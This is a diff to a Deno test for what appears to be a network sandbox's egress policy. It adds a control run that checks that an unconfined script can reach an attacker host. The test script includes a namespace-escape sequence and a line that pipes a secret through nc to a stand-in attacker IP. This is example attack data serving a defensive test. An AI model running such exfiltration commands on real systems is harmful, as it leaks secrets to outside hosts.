@@ -10,6 +10,7 @@ Deno.test({
   sanitizeResources: false,
   fn: async () => {
     await using internet = await Internet.create();
+    await using other = await Internet.create();
     const script = `
       unshare --net sleep 60 & there=/proc/$!/ns/net
       until [ ! $there -ef /proc/self/ns/net ]; do :; done
@@ -24,6 +25,9 @@ Deno.test({
         echo secret | nc -u -w 1 203.0.113.66 9000
         echo tried
       '`;
+    const [file = "", ...args] = other.command(["bash", "-c", script]);
+    await new Deno.Command(file, { args, stdout: "null", stderr: "null" }).output();
+    assert.ok((await other.packets()).attacker > 0, "without egress the attack is one");
     const result = await run(internet, { policy: "site.test", command: ["bash", "-c", script] });
     assert.match(result.stdout, /tried/, result.stderr);
     await internet.world.settle();
